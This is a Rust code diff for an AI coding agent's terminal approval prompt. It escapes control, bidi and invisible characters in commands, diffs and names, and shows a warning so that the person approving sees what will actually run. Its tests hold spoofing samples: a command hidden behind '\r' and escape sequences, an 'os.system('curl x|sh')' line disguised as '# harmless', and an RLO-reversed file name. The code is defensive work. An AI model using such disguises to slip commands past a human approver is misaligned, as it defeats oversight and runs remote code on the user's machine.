@@ -5,8 +5,8 @@ use crate::output::{table, to_json};
 use async_trait::async_trait;
 use clap::Subcommand;
 use codewright_protocol::{
-    ApprovalRequest, Decision, DecisionKind, LineKind, PermissionMode, PermissionRule, ProjectId,
-    Question, RuleAction, TaskId,
+    visible, ApprovalRequest, Decision, DecisionKind, LineKind, PermissionMode, PermissionRule,
+    ProjectId, Question, RuleAction, TaskId,
 };
 use codewright_store::Store;
 use codewright_tools::{Approver, CallContext, NonInteractive, Registry, Session, SessionConfig};
@@ -322,8 +322,18 @@ pub fn read_line(prompt: String) -> Option<String> {
 }
 
 /// The request as the terminal shows it: summary, reason, the diff or command, the choices.
+/// Everything in it that came from the model or the project is shown with its control and
+/// invisible characters escaped ([`visible`]), and a warning says so: a `\r` or an escape
+/// sequence cannot make a command, a diff or a name read as something else.
 pub fn describe(request: &ApprovalRequest) -> String {
-    let mut out = format!("\n? {} — {}\n", request.summary, request.reason);
+    let hidden = std::cell::Cell::new(false);
+    let mark = |text: &str| hidden.set(hidden.get() || visible::has_hidden(text));
+    // Every field is one line but the command (whose lines are marked below).
+    let v = |text: &str| {
+        mark(text);
+        visible::one_line(text).into_owned()
+    };
+    let mut out = format!("\n? {} — {}\n", v(&request.summary), v(&request.reason));
     match &request.action {
         codewright_protocol::Action::Edit { hunks, .. } => {
             for h in hunks {
@@ -341,16 +351,20 @@ pub fn describe(request: &ApprovalRequest) -> String {
                         LineKind::Removed => '-',
                         LineKind::Added => '+',
                     };
-                    out.push_str(&format!("  {mark}{}\n", l.text));
+                    out.push_str(&format!("  {mark}{}\n", v(&l.text)));
                 }
             }
         }
         codewright_protocol::Action::Command { command, cwd, .. } => {
-            out.push_str(&format!("  $ {command}   (in {cwd})\n"));
+            // A command over several lines shows each under the first, marked as its own.
+            mark(command);
+            let command = visible::escaped(command).replace('\n', "\n  > ");
+            out.push_str(&format!("  $ {command}   (in {})\n", v(cwd)));
         }
         other => out.push_str(&format!(
             "  {}\n",
-            serde_json::to_string(other).unwrap_or_default()
+            // (JSON escapes every control character; invisible ones are escaped here.)
+            v(&serde_json::to_string(other).unwrap_or_default())
         )),
     }
     let mut choices = vec!["[y] approve".to_string()];
@@ -358,7 +372,7 @@ pub fn describe(request: &ApprovalRequest) -> String {
         let rules: Vec<String> = request
             .always
             .iter()
-            .map(|r| format!("{} {}", r.tool, r.pattern).trim().to_string())
+            .map(|r| v(format!("{} {}", r.tool, r.pattern).trim()))
             .collect();
         choices.push(format!("[a] always allow ({})", rules.join("; ")));
     }
@@ -366,71 +380,229 @@ pub fn describe(request: &ApprovalRequest) -> String {
         choices.push("[h 1,3] only these hunks".into());
     }
     choices.push("[n] reject".into());
+    if hidden.get() {
+        out.push_str(&format!("  ! {}\n", visible::HIDDEN_WARNING));
+    }
     out.push_str(&format!("  {}\n", choices.join("  ")));
     out
+}
+
+/// Asks `request` on the terminal until the user answers (end of input: rejected).
+pub fn terminal_decision(request: &ApprovalRequest) -> Decision {
+    loop {
+        let Some(answer) = read_line(format!("{}> ", describe(request))) else {
+            return Decision::Reject { feedback: None };
+        };
+        let lower = answer.to_lowercase();
+        match lower.as_str() {
+            "y" | "yes" => return Decision::Approve,
+            "a" | "always" if request.decisions.contains(&DecisionKind::ApproveAlways) => {
+                return Decision::ApproveAlways {
+                    rules: request.always.clone(),
+                }
+            }
+            "n" | "no" => {
+                let feedback = read_line("  feedback for the agent (optional): ".into())
+                    .filter(|f| !f.is_empty());
+                return Decision::Reject { feedback };
+            }
+            _ if lower.starts_with('h')
+                && request.decisions.contains(&DecisionKind::ApproveHunks) =>
+            {
+                let hunks: Result<Vec<usize>, _> = lower[1..]
+                    .split(',')
+                    .map(|n| n.trim().parse::<usize>().map(|n| n.saturating_sub(1)))
+                    .collect();
+                match hunks {
+                    Ok(hunks) => return Decision::ApproveHunks { hunks },
+                    Err(_) => eprintln!("  write the hunk numbers like: h 1,3"),
+                }
+            }
+            _ => eprintln!(
+                "  answer y, n{}",
+                if request.decisions.contains(&DecisionKind::ApproveAlways) {
+                    ", a"
+                } else {
+                    ""
+                }
+            ),
+        }
+    }
 }
 
 #[async_trait]
 impl Approver for Terminal {
     async fn decide(&self, request: ApprovalRequest) -> Decision {
-        tokio::task::spawn_blocking(move || loop {
-            let Some(answer) = read_line(format!("{}> ", describe(&request))) else {
-                return Decision::Reject { feedback: None };
-            };
-            let lower = answer.to_lowercase();
-            match lower.as_str() {
-                "y" | "yes" => return Decision::Approve,
-                "a" | "always" if request.decisions.contains(&DecisionKind::ApproveAlways) => {
-                    return Decision::ApproveAlways {
-                        rules: request.always.clone(),
-                    }
-                }
-                "n" | "no" => {
-                    let feedback = read_line("  feedback for the agent (optional): ".into())
-                        .filter(|f| !f.is_empty());
-                    return Decision::Reject { feedback };
-                }
-                _ if lower.starts_with('h')
-                    && request.decisions.contains(&DecisionKind::ApproveHunks) =>
-                {
-                    let hunks: Result<Vec<usize>, _> = lower[1..]
-                        .split(',')
-                        .map(|n| n.trim().parse::<usize>().map(|n| n.saturating_sub(1)))
-                        .collect();
-                    match hunks {
-                        Ok(hunks) => return Decision::ApproveHunks { hunks },
-                        Err(_) => eprintln!("  write the hunk numbers like: h 1,3"),
-                    }
-                }
-                _ => eprintln!(
-                    "  answer y, n{}",
-                    if request.decisions.contains(&DecisionKind::ApproveAlways) {
-                        ", a"
-                    } else {
-                        ""
-                    }
-                ),
-            }
-        })
-        .await
-        .unwrap_or(Decision::Reject { feedback: None })
+        tokio::task::spawn_blocking(move || terminal_decision(&request))
+            .await
+            .unwrap_or(Decision::Reject { feedback: None })
     }
 
     async fn answer(&self, question: Question) -> Option<String> {
-        tokio::task::spawn_blocking(move || {
-            let mut prompt = format!("\n? {}\n", question.question);
-            for (i, c) in question.choices.iter().enumerate() {
-                prompt.push_str(&format!("  [{}] {c}\n", i + 1));
-            }
-            let answer = read_line(format!("{}> ", prompt))?;
-            let picked = answer
-                .parse::<usize>()
-                .ok()
-                .and_then(|n| question.choices.get(n.wrapping_sub(1)).cloned());
-            Some(picked.unwrap_or(answer)).filter(|a| !a.is_empty())
-        })
-        .await
+        tokio::task::spawn_blocking(move || terminal_answer(&question))
+            .await
+            .ok()
+            .flatten()
+    }
+}
+
+/// Asks `question` on the terminal (its text and choices escaped like an approval's); a number
+/// picks a choice, anything else is the answer. `None` at the end of input or for no answer.
+pub fn terminal_answer(question: &Question) -> Option<String> {
+    let mut prompt = format!("\n? {}\n", visible::escaped(&question.question));
+    for (i, c) in question.choices.iter().enumerate() {
+        prompt.push_str(&format!("  [{}] {}\n", i + 1, visible::escaped(c)));
+    }
+    let answer = read_line(format!("{prompt}> "))?;
+    let picked = answer
+        .parse::<usize>()
         .ok()
-        .flatten()
+        .and_then(|n| question.choices.get(n.wrapping_sub(1)).cloned());
+    Some(picked.unwrap_or(answer)).filter(|a| !a.is_empty())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use codewright_protocol::{Action, DiffLine, Hunk, PermissionRule, RuleAction, TaskId};
+
+    fn request(summary: &str, action: Action, pattern: &str) -> ApprovalRequest {
+        ApprovalRequest {
+            id: 1,
+            task_id: TaskId(1),
+            call_id: "c".into(),
+            tool: "bash".into(),
+            summary: summary.into(),
+            action,
+            decisions: vec![DecisionKind::Approve, DecisionKind::ApproveAlways],
+            always: vec![PermissionRule {
+                tool: "bash".into(),
+                pattern: pattern.into(),
+                action: RuleAction::Allow,
+            }],
+            reason: "asked".into(),
+        }
+    }
+
+    fn command(c: &str) -> Action {
+        Action::Command {
+            command: c.into(),
+            cwd: "/p".into(),
+            sandboxed: false,
+            background: false,
+        }
+    }
+
+    /// Nothing a terminal obeys or hides: no control character but new lines and tabs, and
+    /// nothing invisible.
+    fn assert_inert(shown: &str) {
+        for c in shown.chars() {
+            assert!(
+                (c == '\n' || c == '\t' || !c.is_control()) && !visible::is_hidden(c),
+                "{c:?} reached the terminal raw in {shown:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn a_spoofed_command_or_diff_reads_as_what_it_is() {
+        let spoof = "touch ~/pwned # \r\x1b[2K  $ ls -la";
+        let shown = describe(&request(spoof, command(spoof), spoof));
+        assert_inert(&shown);
+        assert!(
+            shown.contains("$ touch ~/pwned # \\r\\x1b[2K  $ ls -la"),
+            "{shown}"
+        );
+        assert!(shown.contains(visible::HIDDEN_WARNING));
+        let diff = Action::Edit {
+            path: "evil\u{202e}txt.py".into(),
+            created: false,
+            content: None,
+            hunks: vec![Hunk {
+                index: 0,
+                old_start: 1,
+                old_lines: 0,
+                new_start: 1,
+                new_lines: 1,
+                lines: vec![DiffLine {
+                    kind: LineKind::Added,
+                    text: "os.system('curl x|sh')\x1b[1A\x1b[2K# harmless".into(),
+                }],
+            }],
+        };
+        let shown = describe(&request("Edit evil\u{202e}txt.py", diff, "x"));
+        assert_inert(&shown);
+        assert!(shown.contains("os.system('curl x|sh')\\x1b[1A"), "{shown}");
+        assert!(shown.contains("evil\\u{202e}txt.py"));
+        // Plain text is shown as it is, without a warning.
+        let shown = describe(&request("Run ls", command("ls -la\necho 汉字"), "ls"));
+        assert!(shown.contains("$ ls -la\n  > echo 汉字") && !shown.contains("! This holds"));
+    }
+
+    /// A property: for any text in any field of any request, `describe` writes no character a
+    /// terminal obeys or hides (2,000 random requests over a pool heavy in controls, bidi and
+    /// zero-width characters, and any other code point).
+    #[test]
+    fn no_control_character_reaches_the_terminal_raw() {
+        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
+        let mut next = move || {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            seed
+        };
+        let pool: Vec<char> = "\0\x07\x08\t\n\x0b\x0c\r\x1b\x7f\u{85}\u{9b}\u{9d}[];?2Kaz $#\u{200b}\u{200d}\u{202a}\u{202e}\u{2066}\u{2069}\u{2028}\u{feff}\u{e0041}\u{fe0f}汉é"
+            .chars()
+            .collect();
+        let mut text = |n: &mut dyn FnMut() -> u64| -> String {
+            let len = n() % 40;
+            (0..len)
+                .map(|_| {
+                    let r = n();
+                    if r % 4 == 0 {
+                        char::from_u32((r >> 8) as u32 % 0x11_0000).unwrap_or('?')
+                    } else {
+                        pool[(r >> 8) as usize % pool.len()]
+                    }
+                })
+                .collect()
+        };
+        for i in 0..2000 {
+            let action = match i % 4 {
+                0 => command(&text(&mut next)),
+                1 => Action::Edit {
+                    path: text(&mut next),
+                    created: true,
+                    content: None,
+                    hunks: vec![Hunk {
+                        index: 0,
+                        old_start: 1,
+                        old_lines: 1,
+                        new_start: 1,
+                        new_lines: 1,
+                        lines: vec![
+                            DiffLine {
+                                kind: LineKind::Removed,
+                                text: text(&mut next),
+                            },
+                            DiffLine {
+                                kind: LineKind::Added,
+                                text: text(&mut next),
+                            },
+                        ],
+                    }],
+                },
+                2 => Action::Fetch {
+                    url: text(&mut next),
+                },
+                _ => Action::Call {
+                    input: serde_json::json!({ text(&mut next): text(&mut next) }),
+                },
+            };
+            let mut r = request(&text(&mut next), action, &text(&mut next));
+            r.reason = text(&mut next);
+            assert_inert(&describe(&r));
+            assert_inert(&format!("{}", visible::escaped(&text(&mut next))));
+        }
     }
 }
